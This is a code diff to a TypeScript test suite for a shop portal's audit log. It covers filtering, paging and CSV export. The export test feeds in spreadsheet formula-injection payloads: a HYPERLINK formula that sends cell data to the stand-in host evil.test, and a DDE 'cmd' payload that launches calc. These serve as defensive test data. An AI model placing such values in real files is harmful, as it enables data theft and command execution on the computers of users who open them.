@@ -1,9 +1,11 @@
 import assert from 'node:assert/strict';
+import { join } from 'node:path';
 import { describe, test } from 'node:test';
+import { ACCOUNTS_FILE, openDatabase } from '../../../src/store/sqlite/database.ts';
 import { mailsTo } from '../../support/mails.ts';
 import { smallShop } from '../../support/small-shop.ts';
 import { suiteApp } from '../../support/suite-app.ts';
-import { createTestApp } from '../../support/test-app.ts';
+import { createTestApp, type TestApp } from '../../support/test-app.ts';
 import { type Browser, faultOf, partOf, signedIn, suiteBrowser, textOf } from '../site-kit.ts';
 
 const CONSOLE = '/portal/console';
@@ -58,8 +60,8 @@ describe('the audit log', () => {
   test('lines are narrowed down by who, what, account and day; older ones follow', async () => {
     const owner = await signedIn(app, 'owner');
     const person = await signedIn(app);
-    for (let line = 0; line < 55; line++)
-      await app.auditLog.record(owner.accountId, 'feed.imported', 'feed', { line });
+    const actor = `account:${owner.accountId}`;
+    writeLines(app, Array(55).fill([actor, 'feed.imported', 'feed']));
     const linesOf = async (query: string) => {
       const html = await owner.page(`${CONSOLE}/audit?${query}`);
       return { html, lines: (partOf(html, 'audit')?.match(/<time/g) ?? []).length };
@@ -69,7 +71,7 @@ describe('the audit log', () => {
     assert.equal((await linesOf('until=2026-11-20')).lines, 0);
     const first = await linesOf(`actor=account:${owner.accountId}&action=feed.imported`);
     assert.equal(first.lines, 50);
-    const older = /older=(\d+)/.exec(first.html)?.[1];
+    const older = /older=([\w-]+)/.exec(first.html)?.[1];
     assert.equal((await linesOf(`action=feed.imported&older=${older}`)).lines, 5);
   });
 
@@ -77,12 +79,12 @@ describe('the audit log', () => {
     const owner = await signedIn(app, 'owner');
     const link = '=HYPERLINK("http://evil.test/?"&A2,"open")';
     const reasons = [link, "+1+cmd|' /C calc'!A0", '@SUM(1)', '-1', '\t=1'];
-    for (const [at, reason] of reasons.entries()) {
-      const decided = await app.itemOverrides.decide(new Map([[1001, { withheld: at % 2 === 0 }]]), reason);
-      const detail = { decision: decided?.decisionId };
-      await app.auditLog.record(owner.accountId, 'item.decided', 'item:1001', detail);
-    }
-    for (const actor of ['=1+1', '+x']) await app.auditLog.record(actor, '@action', '-target', { a: 1 });
+    for (const [at, reason] of reasons.entries())
+      await app.itemOverrides.decide(new Map([[1001, { withheld: at % 2 === 0 }]]), { by: 'system', reason });
+    writeLines(app, [
+      ['=1+1', '@action', '-target'],
+      ['+x', '@action', '-target'],
+    ]);
     const file = await owner.get(`${CONSOLE}/audit.csv`);
     assert.match(String(file.headers['content-disposition']), /audit_2026-11-21\.csv/);
     const cells = file.text.split(/[,\r\n]+/).map((cell) => cell.replace(/^"/, ''));
@@ -91,6 +93,18 @@ describe('the audit log', () => {
     assert.equal((await (await signedIn(app, 'shop')).get(`${CONSOLE}/audit.csv`)).status, 403);
   });
 });
+
+/** Adds lines to the audit log that no change of ours would write. */
+function writeLines(
+  app: TestApp,
+  lines: readonly (readonly [actor: string, action: string, target: string])[],
+) {
+  using db = openDatabase(join(app.config.dataDir, ACCOUNTS_FILE), { busyTimeoutMs: 1000 });
+  const insert = db.prepare(
+    `INSERT INTO audit (at_ms, actor, action, target, detail) VALUES (?, ?, ?, ?, '{"a":1}')`,
+  );
+  for (const line of lines) insert.run(app.clock.nowMs(), ...line);
+}
 
 describe('the overview', () => {
   const app = suiteApp();
